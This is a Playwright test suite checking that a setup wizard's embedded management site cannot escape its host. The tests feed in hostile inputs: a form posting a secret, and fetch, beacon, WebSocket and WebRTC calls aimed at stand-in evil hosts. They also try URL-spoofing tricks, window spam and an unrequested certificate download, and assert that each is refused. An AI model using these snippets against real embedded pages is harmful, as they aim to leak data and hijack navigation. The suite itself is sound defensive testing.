// A customer's own management site that means ill, or was taken over: it keeps to its one host, on a step that awaits
// no file from it.
import { expect } from '@playwright/test';
import { marker, page as asPage } from './driver/stage.ts';
import { rest, test, type Probe } from './driver/probe.ts';

test.use({ apart: 'site', place: 'site' });

const own = 'mdm.example.jp';

/** Its own page stays, and the frame says whose it is. */
async function expectHome({ stage }: Probe): Promise<void> {
  const page = await stage.foreign();
  expect(new URL(page.url()).host).toBe(own);
  await expect(stage.wizard.page.locator('.host-name')).toHaveText(own);
}

/** What the log says: host or scheme, and the reason. `E` stands for the probe's own foreign host. */
const elsewhere: readonly (readonly [name: string, address: string, log: string])[] = [
  ['another host', 'https://E/', 'navigation E: host'],
  ['Apple’s portal', 'https://identity.apple.com/pushcert/', 'navigation identity.apple.com: host'],
  ['a sub-domain of its own', `https://E.${own}/`, `navigation E.${own}: host`],
  ['the domain above', 'https://example.jp/', 'navigation example.jp: host'],
  ['its name as a sub-domain', `https://${own}.E/`, `navigation ${own}.E: host`],
  ['its name before an @', `https://${own}@E/`, 'navigation E: holds-a-name'],
  ['its name with a dot behind', `https://${own}./`, `navigation ${own}.: host`],
  ['its own host on another port', `https://${own}:8443/`, `navigation ${own}:8443: port`],
  ['its own host unencrypted', `http://${own}/`, `navigation http://${own}: scheme`],
  ['this computer itself', 'https://127.0.0.1/', 'navigation 127.0.0.1: host'],
  ['a server of practice', 'http://127.0.0.1:4000/', 'navigation http://127.0.0.1:4000: scheme'],
  ['our own pages', 'app://wizard/index.html', 'navigation app://wizard: scheme'],
];

test.describe('hostile: a management site', () => {
  for (const [name, address, log] of elsewhere) {
    test(`that leads to ${name}`, async ({ probe }) => {
      await probe.visit();
      await probe.run(`location.href = ${JSON.stringify(address.replace('E', probe.evil))}`);
      await probe.refused(new RegExp(log.replace('E', probe.evil).replaceAll('.', '\\.')));
      await expectHome(probe);
    });
  }

  test('that sends its visitors on, by an answer, a form, a script and a frame', async ({ probe }) => {
    const away = probe.serve('/away', (_request, response) =>
      response.writeHead(302, { location: `https://answer.${probe.evil}/` }).end(),
    );
    await probe.visit(`<form id="form" method="post" action="https://form.${probe.evil}/"><input name="secret" value="1"></form>
      <iframe src="https://frame.${probe.evil}/"></iframe><object data="https://object.${probe.evil}/"></object>
      <iframe sandbox="allow-top-navigation allow-scripts" srcdoc="<script>top.location='https://top.${probe.evil}/'</script>"></iframe>`);
    await probe.refused(/frame\.p\d+\.evil\.example: host/);
    // The inner page's way out comes in its own time, and would take the place of those below.
    await probe.refused(/top\.p\d+\.evil\.example: host/);
    await probe.run(`document.getElementById('form').submit()`);
    await probe.refused(/(navigation|mainFrame) form\.p\d+\.evil\.example: host/);
    await probe.run(`location.replace('https://script.${probe.evil}/')`);
    await probe.refused(/navigation script\.p\d+\.evil\.example: host/);
    await probe.run(`location.href = '${away}'`);
    await probe.refused(/(redirect|mainFrame) answer\.p\d+\.evil\.example: host/);
    const { page, words } = probe.stage.wizard;
    await expect(page.getByText(words.beside.trouble['site-blocked'].what)).toBeVisible();
    await expect(page.locator('.beside .note')).toContainText(probe.evil);
    expect(await probe.stage.opened()).toEqual([]);
  });

  test('that loads, asks and connects elsewhere, Apple’s hosts among them', async ({ probe }) => {
    const { evil } = probe;
    await probe.visit(`<img src="https://image.${evil}/"><script src="https://script.${evil}/"></script>
      <link rel="stylesheet" href="https://style.${evil}/"><link rel="preconnect" href="https://preconnect.${evil}/">
      <img src="https://www.apple.com/image.png"><script src="https://${own}:8443/x.js"></script>`);
    for (const name of ['image', 'script', 'style'])
      await probe.refused(new RegExp(`${name}\\.p\\d+\\.evil\\.example: host`));
    await probe.refused(/image www\.apple\.com: host/);
    await probe.refused(/script mdm\.example\.jp:8443: port/);
    await probe.run(`await Promise.allSettled([fetch('https://fetch.${evil}/'), fetch('https://fetch.${evil}/', { mode: 'no-cors', method: 'POST', body: 'x' })]);
      navigator.sendBeacon('https://beacon.${evil}/', 'x'); new WebSocket('wss://socket.${evil}/'); new EventSource('https://events.${evil}/');
      new RTCPeerConnection({ iceServers: [{ urls: 'turn:turn.${evil}:443?transport=tcp', username: 'x', credential: 'x' }] }).createDataChannel('x')`);
    await probe.refused(/evil\.example: (host|policy|scheme)/);
    await rest(300);
    await expectHome(probe);
  });

  test('that opens windows, of its own and of others', async ({ probe }) => {
    await probe.visit(`<a id="a" target="_blank" href="https://a.${probe.evil}/">x</a>`);
    const opened = await probe.run(
      `return [window.open('https://plain.${probe.evil}/'), window.open('about:blank'), window.open('https://support.apple.com/')].map((one) => one === null)`,
    );
    expect(opened).toEqual([true, true, true]);
    await probe.run(`document.getElementById('a').click()`);
    for (const name of ['plain', 'a']) await probe.refused(new RegExp(`window ${name}\\.p\\d+\\.evil\\.example: host`));
    await probe.refused(/window support\.apple\.com: host/);
    // Nothing of it goes to the browser by itself.
    expect(await probe.stage.opened()).toEqual([]);
    await expectHome(probe);
    // Its own comes in the page's place, and what a form sends into a window is sent nowhere.
    const help = probe.serve('/help', asPage('<h1>help</h1>'));
    await probe.visit(`<form id="form" target="_blank" method="post" action="${help}"><input name="a" value="1"></form>
      <a id="help" target="_blank" href="${help}">x</a>`);
    await probe.run(`document.getElementById('form').submit()`);
    await probe.refused(/window mdm\.example\.jp: form/);
    await probe.run(`document.getElementById('help').click()`);
    const page = await probe.stage.foreign();
    await expect(page.getByRole('heading', { name: 'help' })).toBeVisible();
    await expectHome(probe);
    // As often as it likes: it gets no further than it could by itself.
    await probe.run(`for (let i = 0; i < 200; i += 1) window.open('${help}?' + i)`);
    await rest(300);
    await expectHome(probe);
  });

  test('that downloads what nobody awaits, and asks for a file that nobody gives', async ({ probe }) => {
    const file = probe.serve('/file', (_request, response) =>
      response
        .writeHead(200, {
          'content-type': 'application/octet-stream',
          'content-disposition': 'attachment; filename="MDM_Certificate.pem"',
        })
        .end(marker),
    );
    await probe.visit(`<iframe src="${file}"></iframe><input type="file" id="file">`);
    await probe.refused(/download mdm\.example\.jp: none is awaited/);
    const { page, words } = probe.stage.wizard;
    await expect(page.getByText(words.beside.refused('MDM_Certificate.pem'))).toBeVisible();
    expect(await probe.run(`return document.getElementById('file').files.length`)).toBe(0);
    expect(probe.newFacts()).toEqual([]);
    await expectHome(probe);
  });

  test('finds nothing of ours, neither script nor bridge, and no permission', async ({ probe }) => {
    await probe.visit('<p>Certificates for Third-Party Servers</p><button>Renew</button>');
    await rest(500);
    expect(
      await probe.run(`return [...['wizard', 'require', 'process', 'electron'].filter((name) => name in globalThis),
        ...[...document.querySelectorAll('body *')].map((one) => one.tagName), document.documentElement.attributes.length]`),
    ).toEqual(['P', 'BUTTON', 0]);
    expect(await probe.run(`return Notification.requestPermission()`)).toBe('denied');
    await expectHome(probe);
  });
});
